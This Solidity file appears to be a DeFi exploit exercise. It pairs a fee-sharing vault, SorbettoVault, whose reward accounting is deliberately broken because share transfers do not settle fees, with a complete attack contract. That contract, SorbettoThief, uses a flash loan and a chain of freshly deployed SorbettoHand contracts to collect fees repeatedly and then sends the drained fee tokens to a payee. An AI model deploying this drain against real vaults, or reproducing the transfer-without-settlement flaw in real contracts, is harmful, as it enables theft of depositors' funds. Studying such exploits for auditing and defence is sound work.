// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// Shares of a fund that earns fees. Fees are owed since the last visit of whoever visits; a transfer is no visit.
contract SorbettoVault is Token {
    Token public immutable asset;
    Token public immutable feeToken;
    uint256 public perShare; // fees for 10^18 shares since the beginning
    mapping(address => uint256) public paid;
    mapping(address => uint256) public rewards;
    uint256 public totalRewards; // owed to all, whether they visited or not

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);
    event CollectFees(address indexed who, uint256 amount);
    event FeesEarned(uint256 amount);

    constructor(Token asset_, Token feeToken_) Token("PLP", 18) {
        (asset, feeToken) = (asset_, feeToken_);
    }

    modifier visits() {
        rewards[msg.sender] += balanceOf[msg.sender] * (perShare - paid[msg.sender]) / 1e18;
        paid[msg.sender] = perShare;
        _;
    }

    function deposit(uint256 amount) external visits {
        asset.transferFrom(msg.sender, address(this), amount);
        _mint(msg.sender, amount);
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 shares) external visits {
        _burn(msg.sender, shares);
        asset.transfer(msg.sender, shares);
        emit Withdraw(msg.sender, shares);
    }

    function collectFees(uint256 amount) external visits {
        rewards[msg.sender] -= amount;
        totalRewards -= amount;
        feeToken.transfer(msg.sender, amount);
        emit CollectFees(msg.sender, amount);
    }

    function earn(uint256 amount) external {
        feeToken.transferFrom(msg.sender, address(this), amount);
        perShare += amount * 1e18 / totalSupply;
        totalRewards += amount;
        emit FeesEarned(amount);
    }
}

/// Passes its shares from hand to hand; each hand is owed the fees since the beginning of time.
contract SorbettoThief {
    SorbettoVault private vault;
    uint256 private hands;

    /// The coins buy what the lender wants for its loan.
    function run(FlashLender lender, SorbettoVault vault_, Pool pool, uint256 loan, uint256 hands_, address payee)
        external
        payable
    {
        (vault, hands) = (vault_, hands_);
        Shop.buy(pool, msg.value);
        lender.flashLoan(IBorrower(address(this)), vault_.asset(), loan, "");
        Token fee = vault_.feeToken();
        fee.transfer(payee, fee.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        asset.approve(address(vault), amount);
        vault.deposit(amount);
        SorbettoHand last;
        for (uint256 i = 0; i < hands; i++) {
            SorbettoHand hand = new SorbettoHand(vault);
            if (i == 0) vault.transfer(address(hand), amount);
            else last.pass(address(hand), amount);
            hand.collect(address(this));
            last = hand;
        }
        last.pass(address(this), amount);
        vault.withdraw(amount);
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract SorbettoHand {
    SorbettoVault private immutable vault;

    constructor(SorbettoVault vault_) {
        vault = vault_;
    }

    function collect(address to) external {
        uint256 due = vault.balanceOf(address(this)) * vault.perShare() / 1e18;
        uint256 there = vault.feeToken().balanceOf(address(vault));
        if (due > there) due = there;
        if (due > vault.totalRewards()) due = vault.totalRewards();
        vault.collectFees(due);
        vault.feeToken().transfer(to, due);
    }

    function pass(address to, uint256 shares) external {
        vault.transfer(to, shares);
    }
}
